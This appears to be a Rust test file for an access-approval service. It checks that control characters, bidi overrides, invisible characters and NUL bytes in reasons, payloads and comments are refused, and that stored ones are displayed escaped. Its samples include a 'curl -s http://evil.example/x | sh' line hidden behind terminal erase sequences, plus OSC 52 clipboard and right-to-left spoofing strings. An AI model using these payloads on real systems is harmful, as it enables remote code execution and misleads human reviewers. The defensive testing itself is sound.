//! Hostile text (issue #19, items 1, 6 and 13): a reviewer must never be shown something
//! other than what is stored and enforced, and a byte PostgreSQL cannot store must get the
//! same clear 422 on both stores instead of a 500.

use crate::support::postgres::{Postgres, SUPERUSER_PASSWORD};
use crate::support::*;
use serde_json::{json, Value};

/// The attack from the report: the terminal shows `echo deploying v1.4`, the payload runs
/// `curl ... | sh`.
const HIDDEN: &str = "curl -s http://evil.example/x | sh\r\x1b[2Kecho deploying v1.4";

fn refused_naming(s: &Server, (status, v): (u16, Value), field: &str) {
    assert_eq!(status, 422, "{v}");
    assert_eq!(v["error"]["code"], "invalid_argument", "{v}");
    let message = v["error"]["message"].as_str().unwrap();
    assert!(
        message.starts_with(&format!("{field}: ")),
        "'{message}' should name {field}"
    );
    let _ = s;
}

#[test]
fn control_characters_and_bidi_overrides_in_reviewed_text_are_refused_naming_the_field() {
    let s = Server::start();
    let events = s.audit_count();
    let file = |body: Value| s.post("/v1/requests", "demo-alice", body);

    refused_naming(
        &s,
        file(json!({"resource": "prod-api", "action": "deploy", "reason": "release", "payload": HIDDEN})),
        "payload",
    );
    // OSC 52 (writes the reviewer's clipboard) and BEL in a reason.
    refused_naming(
        &s,
        file(json!({"resource": "prod-db", "action": "read", "reason": "INC-1 \x1b]52;c;ZXZpbA==\x07"})),
        "reason",
    );
    // A right-to-left override makes `deploy.exe` read as something else.
    refused_naming(
        &s,
        file(json!({"resource": "prod-db", "action": "read", "reason": "INC-1 see \u{202E}gpj.exe"})),
        "reason",
    );
    // A C1 control (CSI) is as dangerous as ESC [ on many terminals.
    refused_naming(
        &s,
        file(json!({"resource": "prod-api", "action": "deploy", "reason": "r", "payload": "ls \u{9b}2K"})),
        "payload",
    );
    // A payload is one line.
    refused_naming(
        &s,
        file(json!({"resource": "prod-api", "action": "deploy", "reason": "r", "payload": "echo a\necho b"})),
        "payload",
    );
    // Nothing was filed.
    assert_eq!(s.audit_count(), events);

    // A reason may span lines; comments are checked like reasons.
    let r = s.file(
        "demo-alice",
        json!({"resource": "prod-db", "action": "read", "reason": "INC-1\n\tslow checkout"}),
    );
    assert_eq!(r["reason"], "INC-1\n\tslow checkout");
    let rid = id(&r);
    for comment in ["ok\r\x1b[2Kdenied", "fine\u{2066}", "nul\0"] {
        refused_naming(
            &s,
            s.post(
                &format!("/v1/requests/{rid}/approve"),
                "demo-bob",
                json!({"comment": comment}),
            ),
            "comment",
        );
    }
    assert_eq!(s.get(&format!("/v1/requests/{rid}"), "demo-bob").1["status"], "pending");

    // The CLI, as the reviewer uses it, shows the refusal (escaped) and files nothing.
    let (code, out, err) = s.cli(
        "demo-alice",
        &[
            "request",
            "prod-api",
            "deploy",
            "--reason",
            "release",
            "--payload",
            HIDDEN,
        ],
    );
    assert_eq!(code, 2, "{out}{err}");
    assert!(err.contains("payload: contains a carriage return"), "{err}");
    assert!(!err.contains('\r') && !err.contains('\x1b'), "{err:?}");
}

#[test]
fn a_reason_of_invisible_characters_is_no_reason() {
    let s = Server::start();
    for reason in ["\u{200B}", " \u{FEFF} ", "\u{2060}\u{200C}\u{00AD}"] {
        refused_naming(
            &s,
            s.post(
                "/v1/requests",
                "demo-alice",
                json!({"resource": "prod-db", "action": "read", "reason": reason}),
            ),
            "reason",
        );
    }
    // A ticket hidden behind invisible characters is still a ticket; they are trimmed away.
    let r = s.file(
        "demo-alice",
        json!({"resource": "prod-db", "action": "read", "reason": "\u{200B} INC-9 \u{FEFF}"}),
    );
    assert_eq!(r["reason"], "INC-9");
}

/// Text stored before the checks existed (or written by another tool) still reaches the CLI
/// and the web UI: both must show its control characters as escapes.
#[test]
fn control_characters_that_reach_a_rendering_are_shown_escaped() {
    let s = Server::start();
    let r = s.file(
        "demo-alice",
        json!({"resource": "prod-api", "action": "deploy", "reason": "release", "payload": "echo deploying v1.4"}),
    );
    let rid = id(&r);
    s.sqlite(&format!(
        "UPDATE requests SET doc = json_set(doc, '$.reason', 'ok' || char(27) || ']52;c;ZXZpbA==' || char(7), \
             '$.payload', 'curl -s http://evil.example/x | sh' || char(13) || char(27) || '[2Kecho deploying v1.4') \
             WHERE id = '{rid}'"
    ));
    let (code, out, err) = s.cli("demo-bob", &["show", &rid]);
    assert_eq!(code, 0, "{err}");
    for raw in ['\r', '\x1b', '\x07'] {
        assert!(!out.contains(raw), "raw {raw:?} reached the terminal: {out:?}");
    }
    assert!(
        out.contains("payload   curl -s http://evil.example/x | sh\\r\\x1b[2Kecho deploying v1.4"),
        "{out}"
    );
    assert!(out.contains("reason    ok\\x1b]52;c;ZXZpbA==\\x07"), "{out}");
    let (code, list, _) = s.cli("demo-bob", &["requests", "--status", "pending"]);
    assert_eq!(code, 0);
    assert!(!list.contains('\x1b') && !list.contains('\r'), "{list:?}");

    // The web UI's request page, signed in as the session cookie holds it.
    let page = s
        .http
        .get(format!("{}/ui/requests/{rid}", s.url))
        .header("Cookie", "jitgate_session=demo-bob")
        .send()
        .unwrap();
    assert_eq!(page.status().as_u16(), 200);
    let html = page.text().unwrap();
    assert!(!html.contains('\x1b') && !html.contains('\r'), "{html}");
    assert!(html.contains("sh\\r\\x1b[2Kecho deploying v1.4"), "{html}");
}

/// Every way a NUL byte can reach a store, answered 422 naming the field, whatever the store.
fn nul_bytes_are_refused_by_name(s: &Server) {
    let events = s.audit_count();
    let r = s.file(
        "demo-alice",
        json!({"resource": "prod-db", "action": "read", "reason": "INC-3"}),
    );
    let rid = id(&r);
    let cases: Vec<(&str, (u16, Value))> = vec![
        (
            "reason",
            s.post(
                "/v1/requests",
                "demo-alice",
                json!({"resource": "prod-db", "action": "read", "reason": "INC-3\0"}),
            ),
        ),
        (
            "comment",
            s.post(
                &format!("/v1/requests/{rid}/deny"),
                "demo-bob",
                json!({"comment": "no\0"}),
            ),
        ),
        ("principal", s.get("/v1/audit?principal=al%00ice", "demo-admin")),
        ("request_id", s.get("/v1/audit?request_id=req%00", "demo-admin")),
        ("since", s.get("/v1/audit?since=2026%00", "demo-admin")),
        ("before", s.get("/v1/requests?before=req_%00", "demo-admin")),
        ("before", s.get("/v1/grants?before=%00", "demo-admin")),
        ("id", s.get("/v1/requests/req_%00", "demo-admin")),
        ("id", s.post("/v1/grants/grt%00/revoke", "demo-admin", json!({}))),
        (
            "principal",
            s.post(
                "/v1/check",
                "demo-svc",
                json!({"principal": "alice\0", "resource": "prod-db", "action": "read"}),
            ),
        ),
    ];
    for (field, answer) in cases {
        refused_naming(s, answer, field);
    }
    // Only the one good filing was recorded; the request is untouched.
    assert_eq!(s.audit_count(), events + 1);
    assert_eq!(s.get(&format!("/v1/requests/{rid}"), "demo-bob").1["status"], "pending");
}

#[test]
fn nul_bytes_get_the_same_422_on_sqlite() {
    nul_bytes_are_refused_by_name(&Server::start());
}

#[test]
fn nul_bytes_get_the_same_422_on_postgres() {
    let pg = Postgres::start();
    pg.admin("postgres", "CREATE DATABASE jitgate");
    let url = pg.url("postgres", SUPERUSER_PASSWORD, "jitgate");
    let s = Server::start_on(&quickstart(), None, Some(&url));
    nul_bytes_are_refused_by_name(&s);
}
